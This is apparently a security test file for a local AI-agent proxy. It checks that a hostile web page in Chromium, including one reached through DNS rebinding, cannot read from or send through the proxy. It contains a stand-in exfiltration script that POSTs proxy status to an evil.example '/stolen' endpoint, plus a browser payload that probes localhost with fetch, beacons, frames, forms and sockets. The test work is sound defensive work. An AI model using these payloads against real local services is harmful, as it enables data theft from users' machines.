import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { startProvider, type ScriptedProvider } from 'daypack-testing'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { CHROMIUM, launch, type Browser, type Page } from '../../packages/cli/test/inspect/browser.ts'
import { proxyAddress } from '../../packages/cli/test/load/proxy-address.ts'
import { daypack, project, started } from '../../packages/cli/test/run.ts'
import { countAttack } from '../../packages/daypack-testing/test/attack.ts'

// While `daypack proxy` serves an agent, its user looks at a page of somebody hostile, in a real browser. The page tries what
// pages can do: fetch, forms, frames, new windows, scripts, sockets, and a name of its own that now points to the user's
// machine. It knows the port, and even the token. It reads nothing, and nothing is sent anywhere for it.

const SECRET = 'the launch is on the ninth'
const at = project()
const ended: (() => Promise<unknown>)[] = []
/** What the hostile server was asked for, besides its own pages. */
const loot: string[] = []
let provider: ScriptedProvider
let browser: Browser | undefined
let evil: string
let open: { url: string; port: number }
let locked: { url: string; port: number }
let rebound: Page

beforeAll(async () => {
  provider = await startProvider({ script: ({ index }) => ({ text: `answer ${index}` }) })
  evil = `http://evil.example:${await portOf(hostile())}`
  const port = CHROMIUM === undefined ? 0 : await openRebound()
  open = await proxy(['--port', String(port), '--no-token', '--dir', 'open'])
  locked = await proxy(['--port', '0', '--dir', 'locked'])
  for (const { url } of [open, locked]) await turn(url)
})
afterAll(async () => {
  await browser?.close()
  for (const end of ended) await end()
  await provider.close()
  at.remove()
})

/** A page whose name is the hostile server's when it is opened, and the user's machine afterwards: the port it came from. */
async function openRebound(): Promise<number> {
  const before = hostile()
  const port = await portOf(before)
  rebound = await newPage()
  await rebound.goto(`http://evil.example:${port}/page`)
  before.closeAllConnections()
  await new Promise((resolve) => before.close(resolve))
  return port
}

async function newPage(): Promise<Page> {
  browser ??= await launch(['--host-resolver-rules=MAP *.example 127.0.0.1', '--disable-popup-blocking'])
  return browser.newPage()
}

function hostile(): Server {
  return createServer((incoming, outgoing) => {
    outgoing.setHeader('content-type', 'text/html')
    outgoing.setHeader('access-control-allow-origin', '*')
    if (incoming.url === '/page' || incoming.url === '/favicon.ico') return outgoing.end('<h1>A page</h1>')
    loot.push(`${incoming.method} ${incoming.url}`)
    return outgoing.end(`<script>fetch('/daypack/status').then((answer) => answer.text())
      .then((text) => fetch('${evil}/stolen', { method: 'POST', mode: 'no-cors', body: text }))</script>`)
  })
}

async function portOf(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  ended.push(
    async () => server.closeAllConnections(),
    async () => server.close(),
  )
  return (server.address() as AddressInfo).port
}

async function proxy(flags: readonly string[]): Promise<{ url: string; port: number }> {
  const { child, ended: end } = started(at, ['proxy', ...flags, '--anthropic-url', provider.url])
  ended.push(() => {
    child.kill('SIGTERM')
    return end
  })
  const url = await proxyAddress(child)
  return { url, port: Number(new URL(url).port) }
}

/** The user's agent, which is no browser. */
async function turn(url: string): Promise<number> {
  const response = await fetch(`${url}/s/work/v1/messages`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-api-key': 'k' },
    body: JSON.stringify(question),
  })
  return response.status
}
const tools = [{ name: 'read', input_schema: { type: 'object' } }]
const question = { model: 'claude-opus-4-5', max_tokens: 9, tools, messages: [{ role: 'user', content: SECRET }] }

const paths = () => {
  const to = `/to/${encodeURIComponent(evil)}`
  return ['/daypack/status', '/v1/models', `${to}/p.html`, `/s/work${to}/p.html`, `/s/work${to}/v1/messages`]
}

const PAGE_ATTACK = 'a page in a real Chromium, from elsewhere or under a name bound anew, reads the proxy'

/** Everything a page can try with these addresses: how often it did, and what it could read of the answers. */
function attack(page: Page, targets: readonly string[]): Promise<{ tries: number; read: string[] }> {
  return page.evaluate(`(${ATTACK})(${JSON.stringify(targets)}, ${JSON.stringify(JSON.stringify(question))})`)
}

const ATTACK = `async (urls, body) => {
  const read = []
  let tries = 0
  const place = (name, attributes) => {
    tries++
    const element = document.createElement(name)
    for (const key in attributes) element.setAttribute(key, attributes[key])
    document.body.append(element)
    return element
  }
  for (const url of urls) {
    for (const init of [
      {},
      { mode: 'no-cors' },
      { method: 'POST', body, headers: { 'content-type': 'text/plain' } },
      { method: 'POST', body, mode: 'no-cors' },
      { method: 'POST', body, headers: { 'content-type': 'application/json', 'x-api-key': 'k' } },
    ]) {
      tries++
      const text = await fetch(url, init).then((answer) => answer.type === 'opaque' ? '' : answer.text(), () => '')
      if (text !== '') read.push(text)
    }
    // The beacon, the window, the stream and the socket.
    tries += 4
    navigator.sendBeacon(url, body)
    place('iframe', { src: url })
    place('script', { src: url })
    place('img', { src: url })
    place('link', { rel: 'stylesheet', href: url })
    place('form', { method: 'post', action: url, enctype: 'text/plain', target: '_blank' }).submit()
    window.open(url)
    new EventSource(url).addEventListener('message', (event) => read.push(event.data))
    new WebSocket(url.replace(/^http/, 'ws')).addEventListener('open', () => read.push('socket to ' + url))
  }
  await new Promise((resolve) => setTimeout(resolve, 1500))
  for (const frame of document.querySelectorAll('iframe')) {
    const inside = frame.contentDocument?.body.textContent
    if (inside) read.push(inside)
  }
  return { tries, read }
}`

describe.skipIf(CHROMIUM === undefined)('G-80: a web page', () => {
  test('from elsewhere reads nothing and sends nothing, even with the token', async () => {
    const page = await newPage()
    await page.goto(`${evil}/page`)
    const before = provider.requests.length
    const bases = [open.url, `http://localhost:${open.port}`, locked.url, `http://127.0.0.1:${locked.port}`]
    const targets = bases.flatMap((base) => paths().map((path) => base + path))
    const { tries, read } = await attack(page, targets)
    expect(read).toEqual([])
    expect(loot).toEqual([])
    expect(provider.requests).toHaveLength(before)
    countAttack(PAGE_ATTACK, tries)
  })

  test('whose name points to this machine reads refusals', async () => {
    const before = provider.requests.length
    const { tries, read } = await attack(
      rebound,
      paths().map((path) => `http://evil.example:${open.port}${path}`),
    )
    expect(read.filter((text) => !text.includes('is not allowed') && !text.includes('are refused'))).toEqual([])
    expect(read.length).toBeGreaterThan(0)
    expect(loot).toEqual([])
    expect(provider.requests).toHaveLength(before)
    countAttack(PAGE_ATTACK, tries)
  })

  test('that takes the whole window there shows a refusal, and runs nothing', async () => {
    for (const base of [open.url, locked.url])
      for (const path of paths()) {
        const page = await newPage()
        const response = await page.goto(base + path)
        expect(response?.status()).toBe(403)
        expect(await page.evaluate('document.contentType')).toBe('application/json')
        await page.close()
        countAttack(PAGE_ATTACK, 1)
      }
    expect(loot).toEqual([])
  })
})

test('G-80: a program without the token is refused, and one with it reaches only servers that have a name', async () => {
  const bare = `http://127.0.0.1:${locked.port}`
  for (const path of paths()) expect((await fetch(bare + path)).status).toBe(403)
  for (const { url } of [open, locked])
    for (const path of paths().slice(2)) expect((await fetch(url + path)).status).toBe(404)
  expect(loot).toEqual([])
})

test('the agent works on, and its user asks for the status without typing a token', async () => {
  for (const { url } of [open, locked]) expect(await turn(url)).toBe(200)
  for (const [dir, { port }] of Object.entries({ open, locked })) {
    const shown = await daypack(at, ['proxy', '--status', '--port', String(port), '--dir', dir])
    expect(shown.out).toContain('work')
    expect(shown.out).toContain('2 requests in 1 session')
  }
})
